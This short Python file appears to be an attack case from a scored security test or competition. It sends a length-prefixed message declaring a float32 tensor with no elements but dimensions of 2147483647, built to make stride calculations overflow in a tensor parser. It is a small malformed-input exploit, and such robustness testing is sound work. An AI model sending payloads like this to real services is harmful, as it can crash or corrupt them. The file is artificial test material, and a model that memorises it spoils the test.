"""Sends a tensor of no element and a shape whose strides overflow.

Earns: masked_mean 2
"""

import struct


@in_call
def attack():
    head, body = b'{"tensor":["float32",[2147483647,2147483647,0,2147483647],0,0]}', b""
    take_over(struct.pack(">II", len(head), len(body)) + head + body)
